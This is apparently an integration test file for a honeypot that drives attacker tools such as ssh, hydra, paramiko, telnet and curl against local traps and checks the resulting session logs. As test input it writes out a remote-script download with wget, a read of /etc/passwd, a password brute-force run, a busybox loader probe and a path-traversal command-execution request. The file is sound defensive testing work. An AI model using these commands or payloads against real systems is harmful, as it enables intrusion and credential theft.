import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { eventually, freshDataDirectory, type Instance, removeDataDirectory, startInstance } from './instance.ts';

/** The programs attackers really use, against the traps, and what the API then says about each session. */

const eventsSchema = z.object({
  items: z.array(
    z.object({ event: z.object({ kind: z.string(), sessionId: z.string().nullable(), data: z.looseObject({}) }) }),
  ),
});
const directory = freshDataDirectory();
const files = mkdtempSync(join(tmpdir(), 'cerberus-files-'));
let instance: Instance;

beforeAll(async () => {
  instance = await startInstance(directory);
});
afterAll(async () => {
  await instance.stop();
  removeDataDirectory(directory);
  removeDataDirectory(files);
});

function program(
  name: string,
  line: readonly string[],
  input = '',
): { status: number; stdout: string; stderr: string } {
  const result = spawnSync(name, line, { input, encoding: 'utf8', timeout: 120_000 });
  return { status: result.status ?? -1, stdout: result.stdout, stderr: result.stderr };
}

const SSH_OPTIONS = [
  '-o',
  'StrictHostKeyChecking=no',
  '-o',
  'UserKnownHostsFile=/dev/null',
  '-o',
  'LogLevel=ERROR',
  '-o',
  'PubkeyAuthentication=no',
];
const PASSWORD = 'admin123';

function ssh(line: readonly string[], input = '') {
  return program(
    'sshpass',
    ['-p', PASSWORD, 'ssh', ...SSH_OPTIONS, '-p', String(instance.port('ssh')), ...line, 'root@127.0.0.1'],
    input,
  );
}

/** The detail of the session that holds an event of this kind whose data mentions the text. */
async function sessionWith(kind: string, text: string): Promise<z.infer<typeof detailSchema>> {
  return eventually(`${kind} with ${text}`, async () => {
    const page = eventsSchema.parse(await instance.get(`/api/v1/events?limit=500&kind=${kind}`));
    const found = page.items.find((item) => JSON.stringify(item.event.data).includes(text));
    if (found?.event.sessionId == null) return null;
    // An event is in the log a moment before its session is.
    const answer = await instance.get(`/api/v1/sessions/${found.event.sessionId}`).catch(() => null);
    if (answer === null) return null;
    const detail = detailSchema.parse(answer);
    return detail.state === 'closed' ? detail : null;
  });
}

const detailSchema = z.looseObject({
  state: z.string(),
  clientSoftware: z.string().nullable(),
  hassh: z.string().nullable(),
  decision: z.string().nullable(),
  techniqueIds: z.array(z.string()),
  credentials: z.array(z.looseObject({ username: z.string(), secret: z.string().nullable(), accepted: z.boolean() })),
  commands: z.array(z.looseObject({ input: z.string(), exitCode: z.number().nullable() })),
  files: z.array(z.looseObject({ direction: z.string(), path: z.string().nullable(), sha256: z.string().nullable() })),
});

describe('OpenSSH', () => {
  it('runs a command and gets output and exit status; the session is explained', async () => {
    const result = program('sshpass', [
      ...['-p', PASSWORD, 'ssh', ...SSH_OPTIONS, '-p', String(instance.port('ssh')), 'root@127.0.0.1'],
      'uname -s; cat /etc/passwd | head -1; wget http://203.0.113.9/x.sh -O /tmp/x.sh; exit 7',
    ]);
    expect(result.stdout.split('\n').slice(0, 2)).toEqual(['Linux', 'root:x:0:0:root:/root:/bin/bash']);
    expect(result.status).toBe(7);
    const session = await sessionWith('command.entered', '203.0.113.9/x.sh');
    expect(session.credentials.at(-1)).toMatchObject({ username: 'root', secret: PASSWORD, accepted: true });
    expect(session.commands).toMatchObject([{ exitCode: 7 }]);
    expect(session.clientSoftware).toMatch(/^SSH-2\.0-OpenSSH_/);
    expect(session.hassh).toMatch(/^[0-9a-f]{32}$/);
    expect(session.techniqueIds).toEqual(expect.arrayContaining(['T1105', 'T1082']));
    expect(session.decision).not.toBeNull();
  });

  it('types into a shell on a pty', async () => {
    const result = ssh(['-tt'], 'echo $((7*191+3))\nid -un\nexit\n');
    expect(result.stdout).toContain('1340');
    const session = await sessionWith('command.entered', '7*191+3');
    expect(session.commands.map((command) => command.input)).toEqual(['echo $((7*191+3))', 'id -un', 'exit']);
  });
});

describe('sftp and scp', () => {
  const content = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3, 0xff, 0xfe]);
  const local = join(files, 'payload.bin');

  it('stores a file and gets the same bytes back', async () => {
    writeFileSync(local, content);
    const back = join(files, 'back.bin');
    const line = [
      '-p',
      PASSWORD,
      'sftp',
      '-o',
      'BatchMode=no',
      ...SSH_OPTIONS,
      '-P',
      String(instance.port('ssh')),
      '-b',
      '-',
      'root@127.0.0.1',
    ];
    const result = program('sshpass', line, `put ${local} /tmp/payload.bin\nget /tmp/payload.bin ${back}\n`);
    expect(result).toMatchObject({ status: 0 });
    expect(readFileSync(back)).toEqual(content);
    const session = await sessionWith('file.uploaded', '/tmp/payload.bin');
    expect(session.files).toMatchObject([{ direction: 'uploaded', path: '/tmp/payload.bin' }]);
  });

  it('copies with scp in both modes', async () => {
    writeFileSync(local, content);
    for (const mode of ['-O', '-s']) {
      const name = `/tmp/scp${mode}.bin`;
      const line = [
        '-p',
        PASSWORD,
        'scp',
        mode,
        ...SSH_OPTIONS,
        '-P',
        String(instance.port('ssh')),
        local,
        `root@127.0.0.1:${name}`,
      ];
      expect(program('sshpass', line)).toMatchObject({ status: 0 });
      expect((await sessionWith('file.uploaded', name)).files.at(-1)).toMatchObject({ path: name });
    }
  });
});

describe('hydra', () => {
  it('finds a password that the machine lets in and is decided on as a credential attack', async () => {
    const passwords = join(files, 'passwords.txt');
    writeFileSync(
      passwords,
      ['wrong1', 'wrong2', 'wrong3', 'wrong4', 'wrong5', 'wrong6', 'wrong7', PASSWORD].join('\n'),
    );
    const result = program('hydra', [
      '-l',
      'root',
      '-P',
      passwords,
      '-t',
      '2',
      '-s',
      String(instance.port('ssh')),
      '127.0.0.1',
      'ssh',
    ]);
    expect(result.stdout).toContain(`password: ${PASSWORD}`);
    await sessionWith('credential.tried', 'wrong5');
  });
});

describe('paramiko', () => {
  it('logs in, runs a command, offers a key, and is told that Debian has no keyboard-interactive', async () => {
    const script = `
import paramiko, sys
port = int(sys.argv[1])
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect('127.0.0.1', port, 'root', '${PASSWORD}', look_for_keys=False, allow_agent=False)
_, out, err = c.exec_command('id; lockr')
sys.stdout.write(out.read().decode()); sys.stdout.write(err.read().decode())
c.close()
t = paramiko.Transport(('127.0.0.1', port)); t.connect()
try: t.auth_publickey('root', paramiko.RSAKey.generate(2048)); print('key accepted')
except paramiko.SSHException as error: print('key refused')
t.close()
t = paramiko.Transport(('127.0.0.1', port)); t.connect()
try: t.auth_interactive('root', lambda title, text, prompts: ['${PASSWORD}' for _ in prompts])
except paramiko.BadAuthenticationType as error: print('only', sorted(error.allowed_types))
t.close()
`;
    const result = program('/usr/bin/python3', ['-c', script, String(instance.port('ssh'))]);
    expect(result.stderr).not.toContain('Traceback');
    expect(result.stdout).toContain('uid=0(root) gid=0(root) groups=0(root)');
    expect(result.stdout).toContain('bash: line 1: lockr: command not found');
    expect(result.stdout).toContain('key refused');
    expect(result.stdout).toContain("only ['password', 'publickey']");
    await sessionWith('credential.tried', 'SHA256:');
  });
});

describe('telnet', () => {
  it('logs in and runs the loader dialogue', async () => {
    const dialogue = `(sleep 2; echo root; sleep 1; echo ${PASSWORD}; sleep 3; echo '/bin/busybox ECCHI'; sleep 1; echo exit; sleep 1) | telnet 127.0.0.1 ${instance.port('telnet')}`;
    const result = program('sh', ['-c', dialogue]);
    expect(result.stdout).toContain('ECCHI: applet not found');
    const session = await sessionWith('command.entered', 'ECCHI');
    expect(session.credentials.at(-1)).toMatchObject({ username: 'root', secret: PASSWORD, accepted: true });
  });
});

describe('curl', () => {
  it('gets a page, tries a login and an exploit', async () => {
    const base = `http://127.0.0.1:${instance.port('http')}`;
    expect(program('curl', ['-sS', '-i', `${base}/`]).stdout).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    program('curl', ['-sS', '-u', 'admin:hunter2', `${base}/admin`]);
    expect((await sessionWith('credential.tried', 'hunter2')).credentials).toMatchObject([
      { username: 'admin', secret: 'hunter2' },
    ]);
    program('curl', ['-sS', '--path-as-is', `${base}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh`, '-d', 'echo;id']);
    expect((await sessionWith('http.requested', '.%2e/bin/sh')).techniqueIds).toContain('T1190');
  });
});
